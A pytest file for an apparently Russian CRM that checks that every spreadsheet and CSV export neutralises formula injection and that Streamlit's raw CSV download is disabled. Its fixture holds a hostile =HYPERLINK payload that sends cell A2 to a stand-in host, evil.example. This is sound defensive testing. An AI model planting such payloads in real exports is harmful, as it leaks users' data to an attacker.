"""Issue 11: every cell any export writes — headers included — goes through the one
formula-safe writer, so a custom-field label or a typed value such as
``=HYPERLINK(…)`` is text in the file, never a live formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from clientplus_core import sales
from clientplus_core.analytics import report_builder as rb
from clientplus_core.analytics import reports, segments
from clientplus_core.clients import cards as clients
from clientplus_core.clients import export
from clientplus_core.organizer import tasks
from clientplus_core.outreach import consent
from clientplus_core.records import custom_fields as cf
from clientplus_core.sales import catalogue, register

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Нажмите")'
EVIL_OPTION = "=1+1"


def _cells(data: bytes) -> list[Any]:
    ws = load_workbook(io.BytesIO(data)).active
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text_not_formula(data: bytes, *texts: str) -> None:
    """``texts`` are in the workbook as text cells and no cell at all is a formula."""
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {c.value for c in cells if c.data_type in ("s", "inlineStr")}
    for text in texts:
        assert text in shown


@pytest.fixture
def hostile(store, actor):
    """A client field labelled with a formula, a select field whose option is one,
    and a client, a sale and a paid payment carrying such texts."""
    cf.define(store, actor, {"entity": "client", "key": "promo", "label_ru": EVIL,
                             "type": "text"})
    cf.define(store, actor, {"entity": "client", "key": "tier", "label_ru": EVIL_OPTION + "Уровень",
                             "type": "select", "options": [EVIL_OPTION, "B"]})
    cf.define(store, actor, {"entity": "sale", "key": "channel", "label_ru": EVIL,
                             "type": "text"})
    c = clients.create(store, actor, {"name": EVIL, "source": EVIL,
                                      "extra": {"promo": EVIL, "tier": EVIL_OPTION}})
    s = sales.create(store, actor, {"client_id": c["id"], "title": EVIL,
                                    "extra": {"channel": EVIL}, "lines": [
                                        {"name": EVIL, "qty": 1, "price": "1000",
                                         "vat_code": "none"}]})
    sales.add_payment(store, actor, s["id"], 1000)
    return {"client": c, "sale": s}


def test_the_report_builder_writes_a_formula_label_and_value_as_text(store, actor, hostile):
    spec = rb.ReportSpec("sales", ["client.promo", "status"], ["count", "sum:total"])
    frame = rb.run(store, actor, spec)
    heads = rb.headers(store, spec)
    assert heads[0] == EVIL
    data = rb.frame_to_xlsx(frame, heads, "Отчёт", [frame.columns[2], frame.columns[3]])
    assert_text_not_formula(data, EVIL)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.cell(2, 4).number_format == "#,##0.00" and ws.cell(3, 1).value == "Итого"


def test_segmentation_writes_a_formula_label_and_option_as_text(store, actor, hostile):
    frame = segments.pivot(store, actor, ["tier"])
    data = segments.to_xlsx(store, frame, ["tier"])
    assert_text_not_formula(data, EVIL_OPTION + "Уровень", EVIL_OPTION)


def test_ready_made_reports_write_a_formula_name_as_text(store, actor, hostile):
    for name in ("top_clients", "sources"):
        data = reports.to_xlsx(name, reports.run(store, actor, name))
        assert_text_not_formula(data, EVIL)


def test_the_client_export_writes_labels_and_values_as_text(store, actor, hostile):
    assert_text_not_formula(export.export_clients_bytes(store, actor, None, "xlsx"), EVIL)
    rows = list(csv.reader(io.StringIO(
        export.export_clients_bytes(store, actor, None, "csv").decode("utf-8-sig")),
        delimiter=";"))
    assert "'" + EVIL in rows[0] and "'" + EVIL in rows[1]
    assert not any(v.startswith("=") for row in rows for v in row)


def test_the_sales_export_writes_labels_and_values_as_text(store, actor, hostile):
    out = io.BytesIO()
    register.export_sales(store, actor, None, out, "xlsx")
    assert_text_not_formula(out.getvalue(), EVIL)
    out = io.BytesIO()
    register.export_sales(store, actor, None, out, "csv")
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert "'" + EVIL in rows[0] and "'" + EVIL in rows[1]
    assert not any(v.startswith("=") for row in rows for v in row)


def test_catalogue_tasks_and_consent_exports_write_formulas_as_text(store, actor, hostile):
    catalogue.create(store, actor, {"name": EVIL, "sku": "X-1", "price": "10"})
    assert_text_not_formula(catalogue.export_xlsx(store, actor), EVIL)
    tasks.create(store, actor, {"title": EVIL, "due_date": "2030-01-01", "due_time": "10:00"})
    assert_text_not_formula(tasks.to_xlsx(tasks.list_tasks(store, actor, "all")), EVIL)
    consent.record(store, actor, {"channel": "email", "value": "a@example.ru", "note": EVIL})
    assert_text_not_formula(consent.to_xlsx(store, actor), EVIL)


def test_streamlits_own_unescaped_csv_download_of_tables_is_turned_off():
    """Streamlit's "Download as CSV" on a table writes texts as they are (we read its
    code: no formula escaping), so the app's config hides it; tables are exported
    by the app's own writers above."""
    import tomllib
    from pathlib import Path

    config = Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml"
    assert tomllib.loads(config.read_text(encoding="utf-8"))["client"]["disableDataExport"] is True
